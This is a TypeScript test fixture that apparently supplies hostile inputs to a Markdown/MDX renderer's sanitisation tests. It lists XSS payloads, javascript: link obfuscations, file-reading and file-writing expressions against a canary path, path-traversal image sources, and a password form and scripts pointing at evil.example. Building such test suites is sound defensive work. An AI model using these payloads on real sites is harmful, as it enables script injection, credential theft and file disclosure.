import type { Bait } from './case.ts';

/** Bodies that want to run, to load or to read what they must not, by name. */
export const hostileBodies = ({ canary, written }: Bait): Record<string, string> => ({
  import: `import fs from 'node:fs'\n\nText.`,
  'import-raw': `import secret from '${canary}?raw'\n\nText.`,
  'import-effect': `import '${canary}'\n\nText.`,
  export: 'export const a = 1\n\nText.',
  'export-function': 'export default function Layout() { return null }\n\nText.',
  'read-expression': `{process.getBuiltinModule('fs').readFileSync('${canary}', 'utf8')}`,
  'write-expression': `Text {process.getBuiltinModule('fs').writeFileSync('${written}', 'x')} more.`,
  'import-expression': `{await import('${canary}')}`,
  'attribute-expression': '<Callout type={globalThis.process.exit(1)}>\nText.\n</Callout>',
  'attribute-spread': '<Callout {...globalThis}>\nText.\n</Callout>',
  'jsx-expression-child': '<Callout>\n{1 + 1}\n</Callout>',
  'unknown-component': '<Script src="a.js" />',
  'member-component': '<Astro.slots.default />',
  fragment: '<>{1}</>',
  script: '<script>alert(1)</script>',
  'script-src': '<script src="https://evil.example/a.js"></script>',
  iframe: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  object: '<object data="a.swf"></object>',
  embed: '<embed src="a.svg" />',
  style: '<style>{`body { display: none }`}</style>',
  'style-attribute': '<kbd style="position: fixed">x</kbd>',
  'on-attribute': '<kbd onclick="alert(1)">x</kbd>',
  'on-attribute-case': '<kbd oNmOuSeOvEr="alert(1)">x</kbd>',
  'image-onerror': '<img src="x" onerror="alert(1)" />',
  'svg-script': '<svg><script>alert(1)</script></svg>',
  'svg-use': '<svg><use href="data:image/svg+xml,x#a" /></svg>',
  math: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  form: '<form action="https://evil.example"><input name="password" /></form>',
  base: '<base href="https://evil.example/" />',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
  link: '<link rel="stylesheet" href="https://evil.example/a.css" />',
  template: '<template><script>alert(1)</script></template>',
});

/** Links, by name. */
export const hostileLinks = ({ canary }: Bait): Record<string, string> => ({
  'javascript-link': '[a](javascript:alert(1))',
  'javascript-case': '[a](JaVaScRiPt:alert(1))',
  'javascript-tab': '[a](java&#9;script:alert(1))',
  'javascript-entity': '[a](&#106;avascript:alert(1))',
  'javascript-encoded': '[a](javascript%3Aalert(1))',
  'javascript-reference': '[a][b]\n\n[b]: javascript:alert(1)',
  'javascript-autolink': '[a](<javascript:alert(1)>)',
  'data-link': '[a](data:text/html,<script>alert(1)</script>)',
  'vbscript-link': '[a](vbscript:msgbox(1))',
  'file-link': `[a](file://${canary})`,
  'blob-link': '[a](blob:https://evil.example/x)',
  'protocol-relative': '[a](//evil.example/)',
});

/** Images of a body, by name; the files that they ask for are in pictures.ts. */
export const hostileImages = ({ canary }: Bait): Record<string, string> => ({
  'image-remote': '![a](https://evil.example/pixel.gif)',
  'image-data': '![a](data:image/svg+xml;base64,PHN2Zy8+)',
  'image-traversal': '![a](../../canary.txt)',
  'image-absolute': `![a](${canary})`,
  'image-encoded-traversal': '![a](./%2e%2e/%2e%2e/canary.txt)',
  'figure-traversal': '<Figure src="../../canary.txt" alt="a" />',
  'figure-remote': '<Figure src="https://evil.example/a.png" alt="a" />',
});
